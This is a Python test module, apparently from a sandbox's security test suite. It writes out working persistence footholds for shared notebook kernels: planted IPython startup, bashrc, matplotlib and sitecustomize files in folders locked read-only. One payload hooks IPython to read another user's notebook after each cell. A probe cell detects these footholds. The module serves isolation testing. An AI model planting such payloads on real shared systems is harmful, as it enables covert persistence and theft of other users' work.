"""Footholds in HOME (issue 17, point 1): a cell plants a file that a later Python, IPython,
shell or matplotlib start reads as its configuration, in a folder it then makes read-only
(0555), so that a same-user cleanup between kernels cannot remove it. Warm kernels once shared
one /tmp, which is HOME: IPython ran the startup file in every later classmate's kernel.

Each `plant(kind, tag)` is the attacker's cell: it plants, locks, and runs the trigger itself,
so its own output shows the payload works (`RAN_MARK`). PROBE is a classmate's cell that
pulls every trigger (an interactive bash, a Python with its user site, IPython, matplotlib)
and looks for any file of an attacker in HOME. A classmate's graded notebook must never
contain the mark: the probe's own source spells it only in pieces."""

from __future__ import annotations

from textwrap import dedent

MARK = "FOOTHOLD"  # in every planted file and everything a planted payload prints
RAN_MARK = f"{MARK}-RAN"
KINDS = ("ipython", "bashrc", "matplotlib", "site")
USER_SITE = "/tmp/.local/lib/python3.11/site-packages"  # HOME=/tmp; the sandbox's Pythons are 3.11

# What a planted file runs in a victim's Python: it says so, and in an IPython kernel it
# registers a hook that reads the classmate's notebook after each of their cells.
_PY_PAYLOAD = """\
import os as _o, sys as _s, threading as _t, time as _tm
print({ran!r}, _o.getcwd(), flush=True)
def _spy(*_a, **_k):
    _nbs = [f for f in _o.listdir('.') if f.endswith('.ipynb')]
    print({ran!r}, 'reads', _nbs, open(_nbs[0]).read()[:300] if _nbs else '', flush=True)
def _hook():
    for _ in range(1200):
        _ip = getattr(_s.modules.get('IPython'), 'get_ipython', lambda: None)()
        if _ip is not None and hasattr(_ip, 'events'):
            _ip.events.register('post_run_cell', _spy)
            return
        _tm.sleep(0.1)
_t.Thread(target=_hook, daemon=True).start()
"""


def _files(kind: str, tag: str) -> tuple[dict[str, str], list[str], list[str]]:
    """(path -> text to plant, folders to lock 0555 deepest first, the trigger's command)."""
    ran = f"{RAN_MARK}-{tag}"
    py = _PY_PAYLOAD.format(ran=ran)
    if kind == "ipython":
        d = "/tmp/.ipython/profile_default/startup"
        return {f"{d}/00-a1.py": py}, [d], ["{python}", "-m", "IPython", "-c", "pass"]
    if kind == "bashrc":
        d = "/tmp/.bash.d"
        rc = f"# {MARK}\n. {d}/rc.sh\n"
        files = {"/tmp/.bashrc": rc, "/tmp/.bash_profile": rc, f"{d}/rc.sh": f"echo {ran}\n"}
        return files, [d], ["bash", "-ic", "true"]
    if kind == "matplotlib":
        # matplotlib reads its folder only while it may write there: the folder above is locked
        files = {"/tmp/.config/matplotlib/matplotlibrc": f"# {MARK}-{tag}\naxes.titlesize: 31\n"}
        check = "import matplotlib as m; f = m.matplotlib_fname(); print(f, open(f).read()[:60])"
        return files, ["/tmp/.config"], ["{python}", "-c", check]
    if kind == "site":
        files = {f"{USER_SITE}/{m}.py": py for m in ("sitecustomize", "usercustomize")}
        return files, [USER_SITE], ["/usr/bin/python3", "-c", "pass"]
    raise ValueError(kind)


def plant(kind: str, tag: str) -> str:
    """The attacker's cell: plants `kind`'s files, locks their folders, and runs the trigger."""
    files, locked, trigger = _files(kind, tag)
    return dedent(f"""\
        import os, subprocess, sys
        for _p, _text in {files!r}.items():
            os.makedirs(os.path.dirname(_p), exist_ok=True)
            with open(_p, 'w') as _f:
                _f.write(_text)
            os.chmod(_p, 0o444)
        for _d in {locked!r}:
            os.chmod(_d, 0o555)
        print('{MARK} planted {tag}:', sorted({list(files)!r}))
        _cmd = [sys.executable if a == '{{python}}' else a for a in {trigger!r}]
        _r = subprocess.run(_cmd, capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
        print('{MARK} self-check {tag}:', _r.stdout[-400:])
        """)


# A classmate's cell: every trigger, then a look for files of an attacker in HOME (what lies on
# HOME's own file system: not the notebook's folder, which may be mounted under /tmp).
PROBE = dedent(f"""\
    import os, subprocess, sys
    _mark = {MARK[:4]!r} + {MARK[4:]!r}
    _rc = 'import matplotlib as m; print(open(m.matplotlib_fname()).read())'
    _runs = [['bash', '-ic', 'true'], ['/usr/bin/python3', '-c', 'pass'], [sys.executable, '-c', 'pass'],
             [sys.executable, '-m', 'IPython', '-c', 'pass'], [sys.executable, '-c', _rc]]
    _seen = []
    for _cmd in _runs:
        _r = subprocess.run(_cmd, capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
        _seen += [line for line in (_r.stdout + _r.stderr).splitlines() if _mark in line]
    _home, _n = os.environ['HOME'], 0
    _dev = os.stat(_home).st_dev
    for _root, _dirs, _names in os.walk(_home):
        _dirs[:] = [d for d in _dirs if os.lstat(os.path.join(_root, d)).st_dev == _dev]
        for _name in _names:
            _n += 1
            try:
                if _mark in open(os.path.join(_root, _name), errors='replace').read():
                    _seen.append(os.path.join(_root, _name))
            except OSError:
                pass
    print('probe:', len(_runs), 'starts,', _n, 'files in HOME,', len(_seen), 'of an attacker:', _seen)
    print('probe: kernel pid', os.getpid())  # 1 in a warm kernel, PID 1 of its namespace
    """)
